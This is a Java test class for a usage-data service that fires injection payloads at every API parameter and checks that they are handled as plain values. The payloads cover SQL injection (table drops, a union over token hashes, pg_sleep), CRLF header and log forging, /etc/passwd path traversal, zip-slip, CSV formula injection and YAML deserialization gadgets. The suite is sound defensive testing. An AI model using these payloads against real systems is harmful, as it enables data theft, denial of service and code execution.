package org.rollcall;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.SoftAssertions.assertSoftly;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Queue;
import java.util.Set;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.rollcall.platform.access.TestAdmin;
import org.rollcall.platform.embedded.TestDatabase;

/** What a stranger writes stays a value: in SQL, in headers, in logs, in paths, in spreadsheets, in YAML. */
@QuarkusTest
@ExtendWith(FitsContract.class)
@QuarkusTestResource(TestDatabase.class)
@QuarkusTestResource(TestAdmin.class)
class InjectionTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    /** Of each, what it would need to be taken for code. */
    private static final List<String> SQL = List.of(
            "'; drop table ping; --",
            "' or '1'='1",
            "x') union select token_sha256::text from api_token --",
            "\\'; select pg_sleep(30); --",
            "$$; drop table ping; $$",
            "%' or hostname like '%");

    private static final String LINE_BREAK = "a\r\nX-Forged: 1";

    /** Values of parameters that another one needs beside it, so that it is looked at. */
    private static final Map<String, String> SAMPLES = Map.ofEntries(
            Map.entry("hostname", "gitlab.example.com"),
            Map.entry("id", "999999999"),
            Map.entry("old_id", "8b0c4ff1-3c4a-5d0f-9f0e-2d1a7f3f6a55"),
            Map.entry("type", "smau"),
            Map.entry("version", "18.9"),
            Map.entry("from", "18.9"),
            Map.entry("to", "18.9"),
            Map.entry("metric", "counts.issues"),
            Map.entry("reason", "a test"),
            Map.entry("why", "a test"),
            Map.entry("week", "2024-W46"),
            Map.entry("name", "instances"),
            Map.entry("gitlab_info", "e30="));

    /** A parameter of the contract. */
    private record Parameter(String method, String path, String mediaType, List<JsonNode> all, JsonNode tried) {

        String name() {
            return tried.get("name").textValue();
        }

        boolean isHeader() {
            return tried.get("in").textValue().equals("header");
        }

        /** A call with this value of it, and with those that it needs beside it. */
        HttpResponse<byte[]> call(String value) {
            var target = path;
            var query = new ArrayList<String>();
            var headers = new ArrayList<String>();
            for (var each : all) {
                var name = each.get("name").textValue();
                var needed = each.path("required").asBoolean() || (name.equals("hostname") && method.equals("GET"));
                var given = each.equals(tried) ? value : needed ? SAMPLES.get(name) : null;
                if (given == null) {
                    continue;
                }
                switch (each.get("in").textValue()) {
                    case "path" -> target = target.replace("{" + name + "}", encoded(given));
                    case "query" -> query.add(name + "=" + encoded(given));
                    default -> headers.addAll(List.of(name, given));
                }
            }
            if (name().equals("metrics")) {
                query.add("shape=long");
            }
            return Service.call(
                    method,
                    query.isEmpty() ? target : target + "?" + String.join("&", query),
                    mediaType,
                    headers.toArray(String[]::new));
        }

        private static String encoded(String value) {
            return URLEncoder.encode(value, UTF_8).replace("+", "%20");
        }

        @Override
        public String toString() {
            return method + " " + path + " " + name();
        }
    }

    /** All parameters of all operations. */
    private static List<Parameter> parameters() {
        var contract = Json.read(Service.get("/q/openapi?format=json").body());
        var found = new ArrayList<Parameter>();
        contract.get("paths")
                .properties()
                .forEach(path -> path.getValue().properties().forEach(operation -> {
                    if (!Set.of("get", "post", "put", "patch", "delete").contains(operation.getKey())) {
                        return;
                    }
                    var all = new ArrayList<JsonNode>();
                    path.getValue().path("parameters").forEach(parameter -> all.add(resolved(contract, parameter)));
                    operation
                            .getValue()
                            .path("parameters")
                            .forEach(parameter -> all.add(resolved(contract, parameter)));
                    var mediaTypes =
                            operation.getValue().at("/requestBody/content").fieldNames();
                    var mediaType = mediaTypes.hasNext() ? mediaTypes.next() : "application/json";
                    all.forEach(parameter -> found.add(new Parameter(
                            operation.getKey().toUpperCase(Locale.ROOT), path.getKey(), mediaType, all, parameter)));
                }));
        assertThat(found).as("parameters of the contract").hasSizeGreaterThan(100);
        return found;
    }

    private static JsonNode resolved(JsonNode contract, JsonNode parameter) {
        return parameter.has("$ref")
                ? contract.at(parameter.get("$ref").textValue().substring(1))
                : parameter;
    }

    @BeforeEach
    void freshService() {
        FreshService.start();
        assertThat(Service.publish(
                                "18.9",
                                Definitions.yaml(
                                        "counts.issues number", "\"counts.it's\" number", "settings.name string"))
                        .statusCode())
                .isEqualTo(201);
    }

    @Test
    void sqlInAParameter_isAValueThatMatchesNothing() {
        ping("gitlab.example.com", "18.9.1", "secret-of-another");
        awaitJobs();
        var before = FreshService.rows();
        var parameters = parameters();

        assertSoftly(softly -> {
            for (var parameter : parameters) {
                for (var sql : SQL) {
                    var begun = System.nanoTime();
                    var answer = parameter.call(sql);

                    softly.assertThat(answer.statusCode())
                            .as("%s: %s: %s", parameter, sql, text(answer))
                            .isBetween(200, 499)
                            .isNotIn(401, 403, 405);
                    softly.assertThat(text(answer))
                            .as("%s: %s", parameter, sql)
                            .doesNotContain("secret-of-another", "syntax error", "PSQLException", "SQLSTATE");
                    softly.assertThat(Duration.ofNanos(System.nanoTime() - begun))
                            .as("%s: %s", parameter, sql)
                            .isLessThan(Duration.ofSeconds(20));
                }
            }
        });

        awaitJobs();
        assertThat(FreshService.rows()).isEqualTo(before);
    }

    @Test
    void lineBreakInAParameter_makesNoHeader() {
        ping("gitlab.example.com", "18.9.1", "x");

        assertSoftly(softly -> {
            for (var parameter : parameters()) {
                if (parameter.isHeader()) {
                    continue; // it would end the header of the request
                }
                var answer = parameter.call(LINE_BREAK);

                softly.assertThat(answer.statusCode())
                        .as("%s: %s", parameter, text(answer))
                        .isBetween(200, 499);
                softly.assertThat(answer.headers().firstValue("X-Forged"))
                        .as(parameter.toString())
                        .isEmpty();
            }
        });
        awaitJobs();
    }

    @Test
    void sqlInAPayload_isStoredAndGivenBackAsItCame() {
        for (var sql : SQL) {
            var sent = ping("gitlab.example.com", sql, sql);
            var given = Service.get("/api/v4/usage_data/service_ping?hostname=gitlab.example.com");

            assertThat(Json.differences(sent, given.body())).isEmpty();
        }
        assertThat(FreshService.rows()).contains("ping " + SQL.size());
    }

    /** {@code queries} answers SQL that people run: a quote in a name must not end a text there. */
    @Test
    void quoteInAKeyPath_staysInTheSqlThatIsGivenOut() throws IOException {
        ping("gitlab.example.com", "18.9.1", "x");

        var sql = JSON.readTree(Service.get("/api/v4/usage_data/queries?hostname=gitlab.example.com")
                        .body())
                .get("counts")
                .get("it's")
                .textValue();

        assertThat(FreshService.strings(sql)).containsExactly("2");
    }

    /** A page names the next one in a header, and with it what was asked for. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "/api/v4/usage_data/pings?per_page=1&hostname=a%0d%0aX-Forged:%201&hostname=*.example.com",
                "/nowhere%0d%0aX-Forged:%201"
            })
    void lineBreakInALink_makesNoHeader(String path) {
        ping("gitlab.example.com", "18.9.1", "x");
        ping("gitlab.example.com", "18.9.1", "y");

        var answer = Service.get(path);

        assertThat(answer.statusCode()).as(text(answer)).isIn(200, 400, 404);
        assertThat(answer.headers().firstValue("X-Forged")).isEmpty();
    }

    /** No record of the log has a line that begins with what a stranger wrote. */
    @Test
    void lineBreaksFromOutside_makeNoLineOfTheLog() {
        Queue<String> logged = new ConcurrentLinkedQueue<>();
        var handler = new Handler() {
            @Override
            public void publish(LogRecord record) {
                logged.add(record.getLevel() + " " + record.getMessage() + " "
                        + Stream.of(record.getParameters() == null ? new Object[0] : record.getParameters())
                                .map(String::valueOf)
                                .toList()
                        + (record.getThrown() == null ? "" : " " + record.getThrown()));
            }

            @Override
            public void flush() {}

            @Override
            public void close() {}
        };
        var root = Logger.getLogger("");
        root.addHandler(handler);
        try {
            var forged = "x\n2026-11-24 08:00:00,000 INFO  [org.rollcall] (main) forged";
            ping(forged, forged, forged);
            ping("gitlab.example.com", forged, forged);
            Service.post("application/json\u00a0", "{".getBytes(UTF_8));
            Service.post("/usage_ping_errors", "application/json", json(Map.of("error", Map.of("message", forged))));
            Service.get("/probe/bug?x=%0aforged");
            Service.get("/nowhere%0aforged");
            Service.publish("18.10", "- key_path: \"a\\nforged\"\n  !forged x: y\n");
        } finally {
            root.removeHandler(handler);
        }

        assertThat(logged).as("/probe/bug is logged").anyMatch(line -> line.contains("/probe/bug"));
        assertThat(logged).noneMatch(line -> line.contains("\nforged") || line.contains("\n2026"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/api/v4/dictionaries/..%2f..%2f..%2f..%2fetc%2fpasswd",
                "/api/v4/dictionaries/%2e%2e/%2e%2e/etc/passwd",
                "/api/v4/quarantine/..%2f..%2fetc%2fpasswd/payload",
                "/q/../../etc/passwd",
                "/..%5c..%5cetc%5cpasswd"
            })
    void pathThatClimbs_leadsNowhere(String path) {
        var answer = Service.get(path);

        assertThat(answer.statusCode()).isIn(400, 404);
        assertThat(text(answer)).doesNotContain("root:");
    }

    @Test
    void nameInAnArchive_thatClimbs_writesNoFile() throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("../../../../tmp/rollcall-climbed.json"));
            zip.write(payload("gitlab.example.com", "18.9.1", "x"));
        }

        var answer = Service.post("/usage_data/upload", "application/zip", bytes.toByteArray());

        assertThat(answer.statusCode()).as(text(answer)).isEqualTo(200);
        assertThat(text(answer)).contains("\"stored\"");
        assertThat(Path.of("/tmp/rollcall-climbed.json")).doesNotExist();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=cmd|' /C calc'!A0",
                "+1+1",
                "-1+1",
                "@SUM(A1)",
                "\t=1+1",
                "\r=1+1",
                "\uff1d1+1",
                "\u00a0=1+1",
                "  +1"
            })
    void textThatASpreadsheetWouldRun_isATextInCsv(String formula) {
        ping("gitlab.example.com", "18.9.1", formula);

        var csv = text(Service.get("/api/v4/usage_data/export?format=csv&shape=long&metrics=settings.name"));

        assertThat(csv).contains("'" + formula.charAt(0));
        assertThat(csv).doesNotContain("," + formula, ",\"" + formula);
    }

    static Stream<Arguments> yaml() {
        var laughs = new StringBuilder("- key_path: a\n  l0: &l0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (var i = 1; i < 12; i++) {
            laughs.append(String.format(
                    Locale.ROOT, "  l%d: &l%d [%s]\n", i, i, ("*l" + (i - 1) + ", ").repeat(9) + "*l" + (i - 1)));
        }
        return Stream.of(
                Arguments.of(
                        "a class", "- key_path: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://a\"]]\n"),
                Arguments.of("an object of Ruby", "- key_path: a\n  x: !ruby/object:Gem::Requirement {}\n"),
                Arguments.of("a reference to itself", "- &a\n  key_path: a\n  x: *a\n"),
                Arguments.of("a billion laughs", laughs.toString()));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("yaml")
    void yamlThatIsMoreThanData_isRefused(String what, String yaml) {
        var before = FreshService.rows();

        var answer = Service.publish("18.10", yaml);

        assertThat(answer.statusCode()).as(text(answer)).isEqualTo(400);
        assertThat(text(answer)).contains("\"line\"");
        assertThat(FreshService.rows()).isEqualTo(before);
    }

    private static void awaitJobs() {
        Eventually.until(
                "no job is under way",
                () -> FreshService.strings("select count(*) from job where state in ('queued', 'running')")
                        .equals(List.of("0")));
    }

    private static byte[] ping(String hostname, String version, String name) {
        var payload = payload(hostname, version, name);
        assertThat(Service.ping(payload).statusCode()).isIn(201, 202);
        return payload;
    }

    private static byte[] payload(String hostname, String version, String name) {
        return json(Map.of(
                "recorded_at",
                TestClock.now().toString(),
                "uuid",
                "5f0e4b2a-1d3c-4e5f-8a9b-0c1d2e3f4a5b",
                "hostname",
                hostname,
                "version",
                version,
                "counts",
                Map.of("issues", 1, "it's", 2, "'; drop table ping; --", 3),
                "settings",
                Map.of("name", name)));
    }

    private static byte[] json(Object value) {
        try {
            return JSON.writeValueAsBytes(value);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String text(HttpResponse<byte[]> answer) {
        return new String(answer.body(), UTF_8);
    }
}
